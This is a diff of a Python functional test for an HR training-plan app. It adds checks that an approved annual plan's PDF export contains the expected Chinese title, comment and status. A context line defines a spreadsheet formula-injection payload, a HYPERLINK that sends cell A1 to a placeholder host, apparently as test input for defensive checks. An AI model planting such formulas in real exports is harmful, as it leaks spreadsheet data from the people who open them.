@@ -18,6 +18,7 @@ from tests.functional.approvals.test_approvals import appoint, decide, token
 from tests.functional.hr.conftest import course_link, hr_link, people  # noqa: F401  (fixtures)
 from tests.functional.hr.test_organisations import crowd_on, other_company  # noqa: F401  (fixture)
 from tests.functional.practical.conftest import csrf, settings_overrides  # noqa: F401  (fixture)
+from tests.unit.certificates.test_issuing import pdf_text
 
 HOSTILE = '=HYPERLINK("http://x/?leak="&A1,"Click")'
 
@@ -118,6 +119,11 @@ def test_an_annual_plan_is_returned_by_management_changed_and_approved_as_versio
     hr.get(f"{base}/manage/plans/{document}")
     assert "已批准 · 第 2 版" in hr.page.text_of("plan-status")
     assert "请补充预算说明。" in hr.page.text and "第 1 版" in hr.page.text  # the history of both versions
+    pdf = hr.session.get(f"{base}/manage/plans/{document}.pdf", timeout=30)
+    assert pdf.status_code == 200 and pdf.headers["Content-Type"] == "application/pdf"
+    text = pdf_text(pdf.content)
+    for seen in ("2027 年度售后培训计划", "新能源车型维修", "外部培训", "请补充预算说明。", "李娜", "已批准"):
+        assert seen in text, seen
 
     # A quarterly plan refines this annual plan, never another organisation's.
     assert new_plan(hr, base, kind="quarterly", year="2027", quarter="2", title="2027 年第二季度计划",
